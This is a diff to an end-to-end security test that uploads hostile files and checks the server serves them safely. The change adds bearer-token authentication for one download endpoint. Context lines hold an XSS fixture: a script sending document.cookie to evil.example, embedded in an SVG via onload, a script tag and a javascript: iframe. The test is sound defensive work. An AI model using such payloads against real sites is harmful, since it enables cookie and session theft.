@@ -1,8 +1,8 @@
 import { deepEqual, equal, match, ok } from 'node:assert/strict'
-import { channelsUpdate, filesUpload, postsCreate, usersPatch, type FileInfo } from '@rookery/sdk/protocol'
+import { channelsUpdate, filesUpload, postsCreate, sessionsCreate, usersPatch, type FileInfo } from '@rookery/sdk/protocol'
 import type { TestWindow } from '../harness/browser.ts'
 import { hostileTexts } from '../../web/test/messages/hostile-texts.ts'
-import type { Furniture } from './furniture.ts'
+import { password, type Furniture } from './furniture.ts'
 
 const script = 'document.documentElement.dataset.hacked = "yes"; document.title = "hacked"; try { top.document.title = "hacked"; fetch("https://evil.example/?" + document.cookie) } catch {}'
 const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload='${script.replaceAll('"', '&quot;')}'><script>${script}</script><image href="https://evil.example/x.png"/><foreignObject><iframe src="javascript:${script.replaceAll('"', '&quot;')}"/></foreignObject></svg>`
@@ -157,10 +157,11 @@ export async function hostileFiles(window: TestWindow, { world }: Furniture): Pr
   for (let left = await shown.locator('form.composer .files li').count(); left > 0; left -= 1) await shown.locator('form.composer .files li button').last().click()
 
   // What the server says of each, at every address where it has it.
+  const { token } = await bob.client.run(sessionsCreate, { login: 'bob', password })
   for (const file of files) {
     ok(!/[\p{Cc}\u202a-\u202e\u2066-\u2069/\\]/u.test(file.name), `the name ${JSON.stringify(file.name)} is clean`)
     for (const address of [`/api/v1/files.download?fileId=${file.id}`, `/api/v4/files/${file.id}`]) {
-      const answer = await context.request.get(`${world.server.url}${address}`)
+      const answer = await context.request.get(`${world.server.url}${address}`, address.startsWith('/api/v4') ? { headers: { authorization: `Bearer ${token}` } } : {})
       const headers = answer.headers()
       equal(answer.status(), 200, address)
       equal(headers['x-content-type-options'], 'nosniff', file.name)
